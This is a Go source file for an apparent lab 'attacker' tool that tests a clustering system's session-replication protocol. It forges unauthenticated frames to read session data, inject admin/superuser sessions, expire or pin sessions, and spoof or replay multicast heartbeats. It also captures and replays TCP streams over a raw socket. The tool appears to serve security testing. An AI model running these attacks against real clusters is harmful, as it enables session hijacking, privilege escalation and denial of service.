//go:build linux

// Command attacker is the lab's hostile host: it speaks flock's wire format
// (frames, heartbeats, the session manager's messages) from the published
// layouts alone, with none of flock's code, and tries one attack per run.
// It prints one JSON line: what it sent and what came back. Whether the
// attack worked is judged from the cluster's side (sessions, members,
// counters); the attacker reports what it could read.
//
//	attacker read-state    --target IP:PORT --domain D
//	attacker read-fetch    --target IP:PORT --domain D --ids ID,ID
//	attacker write-delta   --target IP:PORT --domain D --id ID --base N --origin NODE
//	attacker forge-session --target IP:PORT --domain D --id ID
//	attacker expire        --target IP:PORT --domain D --id ID
//	attacker pin           --target IP:PORT --domain D --id ID
//	attacker leave         --target IP:PORT --domain D [--name NODE]
//	attacker fake-member   --group IP:PORT --iface IP --domain D --name NODE --for DURATION
//	attacker heartbeat     --group IP:PORT --iface IP --domain D --name NODE --addr IP:PORT [--leave]
//	attacker replay-heartbeats --group IP:PORT --iface IP --for DURATION
//	attacker replay-frames --iface-name eth0 --port PORT --for DURATION
//
// It deliberately imports nothing from flock: a reimplementation from the
// documented layouts is what a real attacker would have.
package main

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"sort"
	"strings"
	"syscall"
	"time"

	"github.com/vmihailenco/msgpack/v5"
	"golang.org/x/net/ipv4"
)

// The session manager's message types (frame types 16...).
const (
	typeDelta    = 16
	typeExpire   = 17
	typeFetch    = 19
	typeSessions = 20
	typeState    = 21

	frameHello = 1
	frameAck   = 2
	framePing  = 3
	framePong  = 4
	frameLeave = 5

	modeSync = 2
)

type result struct {
	Attack string `json:"attack"`
	// Answered: the node answered the message (an ack, a pong) in the
	// clear; Applied: the ack said the handler applied it.
	Answered bool `json:"answered"`
	Applied  bool `json:"applied"`
	// Leaked counts the session ids the attacker read in answers.
	Leaked int    `json:"leaked"`
	Sent   int    `json:"sent"`
	Detail string `json:"detail,omitempty"`
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker ATTACK [flags]")
		os.Exit(2)
	}
	fl := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	target := fl.String("target", "", "receiver IP:port")
	domain := fl.String("domain", "default", "cluster domain")
	ids := fl.String("ids", "", "session ids, comma-separated")
	id := fl.String("id", "", "session id")
	base := fl.Uint64("base", 0, "version the change claims to build on")
	origin := fl.String("origin", "", "node that made the base version")
	name := fl.String("name", "attacker", "member name to claim")
	group := fl.String("group", "228.0.0.4:45564", "multicast group")
	iface := fl.String("iface", "", "IPv4 address of the attacker's interface")
	ifname := fl.String("iface-name", "eth0", "interface to capture on")
	port := fl.Int("port", 4000, "receiver port to capture")
	addr := fl.String("addr", "", "receiver address to announce")
	leave := fl.Bool("leave", false, "announce leaving")
	dur := fl.Duration("for", 3*time.Second, "how long")
	fl.Parse(os.Args[2:])

	r := result{Attack: os.Args[1]}
	var err error
	switch r.Attack {
	case "read-state":
		err = request(&r, *target, *domain, *name, typeState, map[string]any{})
	case "read-fetch":
		err = request(&r, *target, *domain, *name, typeFetch, map[string]any{"i": strings.Split(*ids, ",")})
	case "write-delta":
		// The privilege escalation: a change on the victim's version.
		err = request(&r, *target, *domain, *name, typeDelta, map[string]any{
			"i": *id, "b": *base, "bo": *origin, "v": *base + 1, "o": *origin, "a": time.Now().UnixNano(),
			"s": map[string][]byte{"user": mp("admin"), "role": mp("superuser")}, "y": true,
		})
	case "forge-session":
		err = request(&r, *target, *domain, *name, typeSessions, map[string]any{
			"s": []map[string]any{{"i": *id, "v": uint64(1), "o": *name, "c": time.Now().UnixNano(), "a": time.Now().UnixNano(),
				"ab": *name, "m": int64(30 * time.Minute), "at": map[string][]byte{"user": mp("admin"), "count": mp(1000000)}}},
			"l": true, "u": true,
		})
	case "expire":
		err = request(&r, *target, *domain, *name, typeExpire, map[string]any{"i": *id, "v": uint64(1) << 62, "r": "invalidated"})
	case "pin":
		err = request(&r, *target, *domain, *name, typeDelta, map[string]any{
			"i": *id, "v": uint64(1) << 62, "o": "zzzz", "a": time.Now().UnixNano(), "f": true,
			"s": map[string][]byte{"count": mp(-1)},
		})
	case "leave":
		err = control(&r, *target, *domain, *name, frameLeave)
	case "fake-member":
		err = fakeMember(&r, *group, *iface, *domain, *name, *dur)
	case "heartbeat":
		err = heartbeat(&r, *group, *iface, *domain, *name, *addr, *leave)
	case "replay-heartbeats":
		err = replayHeartbeats(&r, *group, *iface, *dur)
	case "replay-frames":
		err = replayFrames(&r, *ifname, *port, *dur)
	default:
		err = fmt.Errorf("unknown attack %q", r.Attack)
	}
	if err != nil {
		r.Detail = err.Error()
	}
	json.NewEncoder(os.Stdout).Encode(r)
}

func mp(v any) []byte {
	b, _ := msgpack.Marshal(v)
	return b
}

// --- frames ---

func frame(t byte, body []byte) []byte {
	b := []byte{'F', 'L', 'K', 'T', 1, t, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(b[8:], uint32(len(body)))
	return append(b, body...)
}

func randomID() []byte {
	id := make([]byte, 16)
	rand.Read(id)
	return id
}

func hello(id []byte, name, domain, addr string) []byte {
	body := mp([]any{[]any{id, name, domain, addr, time.Now().UnixNano()}})
	return frame(frameHello, body)
}

func envelope(t byte, from []byte, seq uint64, payload []byte) []byte {
	return frame(t, mp([]any{from, seq, uint64(modeSync), payload}))
}

// readFrame reads one frame: its type and body.
func readFrame(c net.Conn) (byte, []byte, error) {
	var h [12]byte
	if _, err := io.ReadFull(c, h[:]); err != nil {
		return 0, nil, err
	}
	if string(h[:4]) != "FLKT" {
		return 0, nil, fmt.Errorf("not a frame: % x", h)
	}
	n := binary.BigEndian.Uint32(h[8:])
	if n > 64<<20 {
		return 0, nil, fmt.Errorf("frame of %d bytes", n)
	}
	body := make([]byte, n)
	_, err := io.ReadFull(c, body)
	return h[5], body, err
}

func dial(target string) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", target, 3*time.Second)
	if err != nil {
		return nil, err
	}
	c.SetDeadline(time.Now().Add(5 * time.Second))
	return c, nil
}

// request sends hello plus one sync message in the clear, as a member
// without a key would, and reads what comes back.
func request(r *result, target, domain, name string, t byte, payload any) error {
	c, err := dial(target)
	if err != nil {
		return err
	}
	defer c.Close()
	me := randomID()
	local := c.LocalAddr().(*net.TCPAddr).IP.String() + ":4000"
	msg := append(hello(me, name, domain, local), envelope(t, me, 1, mp(payload))...)
	if _, err := c.Write(msg); err != nil {
		return err
	}
	r.Sent = 1
	for {
		ft, body, err := readFrame(c)
		if err != nil {
			return fmt.Errorf("no answer: %w", err)
		}
		if ft != frameAck {
			continue
		}
		r.Answered = true
		var ack []any
		if err := msgpack.Unmarshal(body, &ack); err != nil || len(ack) < 3 {
			return fmt.Errorf("ack: %v", err)
		}
		status, _ := ack[1].(int8)
		if s, ok := toUint(ack[1]); ok {
			r.Applied = s == 2
			status = int8(s)
		}
		if status == 3 {
			r.Detail = fmt.Sprint(ack[2])
		}
		if len(ack) > 3 {
			if reply, ok := ack[3].([]byte); ok {
				r.Leaked = countIDs(reply)
			}
		}
		return nil
	}
}

func toUint(v any) (uint64, bool) {
	switch x := v.(type) {
	case int8:
		return uint64(x), true
	case uint8:
		return uint64(x), true
	case int64:
		return uint64(x), true
	case uint64:
		return x, true
	}
	return 0, false
}

// countIDs counts the session ids in an answer: whole sessions ("s") and
// tombstones ("e").
func countIDs(reply []byte) int {
	var m map[string]any
	if msgpack.Unmarshal(reply, &m) != nil {
		return 0
	}
	n := 0
	for _, k := range []string{"s", "e"} {
		if l, ok := m[k].([]any); ok {
			n += len(l)
		}
	}
	return n
}

// control sends hello plus a control frame (ping, leave) and waits for the
// pong.
func control(r *result, target, domain, name string, t byte) error {
	c, err := dial(target)
	if err != nil {
		return err
	}
	defer c.Close()
	local := c.LocalAddr().(*net.TCPAddr).IP.String() + ":4000"
	msg := append(hello(randomID(), name, domain, local), frame(t, mp([]any{uint64(42)}))...)
	if _, err := c.Write(msg); err != nil {
		return err
	}
	r.Sent = 1
	for {
		ft, _, err := readFrame(c)
		if err != nil {
			return fmt.Errorf("no answer: %w", err)
		}
		if ft == framePong {
			r.Answered, r.Applied = true, true
			return nil
		}
	}
}

// --- heartbeats ---

func heartbeatPacket(cmd byte, id []byte, started time.Time, seq uint64, addr netip.AddrPort, name, domain string) []byte {
	b := []byte{'F', 'L', 'K', 'B', 1, cmd, 0, 0}
	b = append(b, id...)
	b = binary.BigEndian.AppendUint64(b, uint64(started.UnixNano()))
	b = binary.BigEndian.AppendUint64(b, seq)
	b = binary.BigEndian.AppendUint16(b, addr.Port())
	ip := addr.Addr().As4()
	b = append(b, 4)
	b = append(b, ip[:]...)
	b = append(b, byte(len(name)))
	b = append(b, name...)
	b = append(b, byte(len(domain)))
	return append(b, domain...)
}

func joinGroup(group, iface string) (*ipv4.PacketConn, *net.UDPAddr, error) {
	g, err := net.ResolveUDPAddr("udp4", group)
	if err != nil {
		return nil, nil, err
	}
	ifi, err := ifaceByAddr(iface)
	if err != nil {
		return nil, nil, err
	}
	c, err := net.ListenPacket("udp4", fmt.Sprintf("0.0.0.0:%d", g.Port))
	if err != nil {
		return nil, nil, err
	}
	p := ipv4.NewPacketConn(c)
	if err := p.JoinGroup(ifi, &net.UDPAddr{IP: g.IP}); err != nil {
		c.Close()
		return nil, nil, err
	}
	p.SetMulticastInterface(ifi)
	p.SetMulticastTTL(1)
	p.SetMulticastLoopback(false)
	return p, g, nil
}

func ifaceByAddr(a string) (*net.Interface, error) {
	ifs, err := net.Interfaces()
	if err != nil {
		return nil, err
	}
	for _, ifi := range ifs {
		addrs, _ := ifi.Addrs()
		for _, ad := range addrs {
			if ipn, ok := ad.(*net.IPNet); ok && ipn.IP.String() == a {
				return &ifi, nil
			}
		}
	}
	return nil, fmt.Errorf("no interface with address %s", a)
}

// heartbeat sends forged heartbeats in the clear: a member's name with a
// later start time (impersonation), or a leave.
func heartbeat(r *result, group, iface, domain, name, addr string, leave bool) error {
	p, g, err := joinGroup(group, iface)
	if err != nil {
		return err
	}
	defer p.Close()
	ap, err := netip.ParseAddrPort(addr)
	if err != nil {
		return err
	}
	id := randomID()
	cmd := byte(1)
	if leave {
		cmd = 2
	}
	started := time.Now().Add(time.Hour) // "a later run"
	for i := range 10 {
		if _, err := p.WriteTo(heartbeatPacket(cmd, id, started, uint64(i+1), ap, name, domain), nil, g); err != nil {
			return err
		}
		r.Sent++
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

// fakeMember announces a member with a receiver that answers pings but
// never acknowledges a message: if the cluster took it in, every sync
// write would wait the send timeout for it.
func fakeMember(r *result, group, iface, domain, name string, d time.Duration) error {
	ln, err := net.Listen("tcp", iface+":0")
	if err != nil {
		return err
	}
	defer ln.Close()
	conns := make(chan struct{}, 1024)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns <- struct{}{}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(d + 5*time.Second))
				for {
					t, body, err := readFrame(c)
					if err != nil {
						return
					}
					if t == framePing {
						var ping []any
						msgpack.Unmarshal(body, &ping)
						if len(ping) == 1 {
							c.Write(frame(framePong, mp([]any{ping[0], []any{randomID(), name, domain, ln.Addr().String(), time.Now().UnixNano()}})))
						}
					}
					// Messages are read and never acknowledged.
				}
			}()
		}
	}()
	p, g, err := joinGroup(group, iface)
	if err != nil {
		return err
	}
	defer p.Close()
	id := randomID()
	started := time.Now()
	ap := ln.Addr().(*net.TCPAddr).AddrPort()
	for i := 0; time.Duration(i)*250*time.Millisecond < d; i++ {
		p.WriteTo(heartbeatPacket(1, id, started, uint64(i+1), ap, name, domain), nil, g)
		r.Sent++
		time.Sleep(250 * time.Millisecond)
	}
	r.Answered = len(conns) > 0 // a node connected to the fake member
	r.Detail = fmt.Sprintf("%d connections from nodes", len(conns))
	return nil
}

// replayHeartbeats records what the group carries for d, then sends every
// packet again: a member's recorded leave, or its alive heartbeats after it
// has gone.
func replayHeartbeats(r *result, group, iface string, d time.Duration) error {
	p, g, err := joinGroup(group, iface)
	if err != nil {
		return err
	}
	defer p.Close()
	var recorded [][]byte
	buf := make([]byte, 2048)
	for end := time.Now().Add(d); time.Now().Before(end); {
		p.SetReadDeadline(end)
		n, _, _, err := p.ReadFrom(buf)
		if err != nil {
			break
		}
		recorded = append(recorded, bytes.Clone(buf[:n]))
	}
	for _, pkt := range recorded {
		if _, err := p.WriteTo(pkt, nil, g); err != nil {
			return err
		}
		r.Sent++
	}
	r.Detail = fmt.Sprintf("recorded and replayed %d packets", len(recorded))
	return nil
}

// --- frames captured from the wire ---

type flow struct {
	src, dst netip.AddrPort
}

type segment struct {
	seq  uint32
	data []byte
}

// replayFrames captures the TCP streams towards receivers (port) that
// cross the attacker's interface for d (the lab's bridge floods every
// frame), then opens a connection of its own to each receiver and sends it
// the bytes a member sent, as they were.
func replayFrames(r *result, ifname string, port int, d time.Duration) error {
	ifi, err := net.InterfaceByName(ifname)
	if err != nil {
		return err
	}
	const ethPAll = 0x0003
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(ethPAll)))
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer syscall.Close(fd)
	if err := syscall.Bind(fd, &syscall.SockaddrLinklayer{Protocol: htons(ethPAll), Ifindex: ifi.Index}); err != nil {
		return err
	}
	tv := syscall.NsecToTimeval(int64(200 * time.Millisecond))
	syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv)
	streams := map[flow][]segment{}
	buf := make([]byte, 65536)
	for end := time.Now().Add(d); time.Now().Before(end); {
		n, _, err := syscall.Recvfrom(fd, buf, 0)
		if err != nil {
			continue
		}
		f, seg, ok := parseTCP(buf[:n], uint16(port))
		if ok && len(seg.data) > 0 {
			streams[f] = append(streams[f], seg)
		}
	}
	replayed := 0
	for f, segs := range streams {
		stream := assemble(segs)
		if len(stream) == 0 {
			continue
		}
		c, err := dial(f.dst.String())
		if err != nil {
			continue
		}
		c.Write(stream)
		replayed++
		r.Sent += len(stream)
		// Whatever comes back, read for a moment: a sealed stream gets at
		// most the handshake's answer.
		c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		for {
			t, _, err := readFrame(c)
			if err != nil {
				break
			}
			if t == frameAck {
				r.Answered, r.Applied = true, true
			}
		}
		c.Close()
	}
	r.Detail = fmt.Sprintf("captured %d streams, replayed %d", len(streams), replayed)
	if len(streams) == 0 {
		return errors.New("captured nothing: is the bridge flooding?")
	}
	return nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// parseTCP reads an Ethernet + IPv4 + TCP frame bound to port.
func parseTCP(b []byte, port uint16) (flow, segment, bool) {
	if len(b) < 14+20 || binary.BigEndian.Uint16(b[12:]) != 0x0800 {
		return flow{}, segment{}, false
	}
	ip := b[14:]
	ihl := int(ip[0]&0x0f) * 4
	if ip[9] != 6 || len(ip) < ihl+20 {
		return flow{}, segment{}, false
	}
	total := int(binary.BigEndian.Uint16(ip[2:]))
	if total > len(ip) || total < ihl+20 {
		return flow{}, segment{}, false
	}
	tcp := ip[ihl:total]
	off := int(tcp[12]>>4) * 4
	if off > len(tcp) {
		return flow{}, segment{}, false
	}
	sp, dp := binary.BigEndian.Uint16(tcp[0:]), binary.BigEndian.Uint16(tcp[2:])
	if dp != port {
		return flow{}, segment{}, false
	}
	src := netip.AddrPortFrom(netip.AddrFrom4([4]byte(ip[12:16])), sp)
	dst := netip.AddrPortFrom(netip.AddrFrom4([4]byte(ip[16:20])), dp)
	return flow{src, dst}, segment{seq: binary.BigEndian.Uint32(tcp[4:]), data: bytes.Clone(tcp[off:])}, true
}

// assemble orders a flow's segments by sequence number, dropping
// retransmissions, from the first captured.
func assemble(segs []segment) []byte {
	sort.SliceStable(segs, func(i, j int) bool { return int32(segs[i].seq-segs[j].seq) < 0 })
	var out []byte
	next := segs[0].seq
	for _, s := range segs {
		if int32(s.seq-next) < 0 {
			skip := int(next - s.seq)
			if skip >= len(s.data) {
				continue
			}
			s.data = s.data[skip:]
			s.seq = next
		}
		if s.seq != next {
			break // a hole: what follows cannot be replayed in order
		}
		out = append(out, s.data...)
		next += uint32(len(s.data))
	}
	return out
}
